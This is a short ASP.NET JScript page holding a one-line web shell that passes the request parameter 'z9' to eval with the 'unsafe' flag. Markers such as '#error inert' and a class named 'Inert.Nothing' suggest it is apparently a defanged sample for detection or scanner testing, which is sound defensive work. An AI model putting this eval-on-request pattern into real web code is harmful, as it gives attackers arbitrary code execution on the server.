<%@ Page Language="Jscript" Inherits="Inert.Nothing" %>
<%
#error inert
eval(Request.Item["z9"], "unsafe");
%>
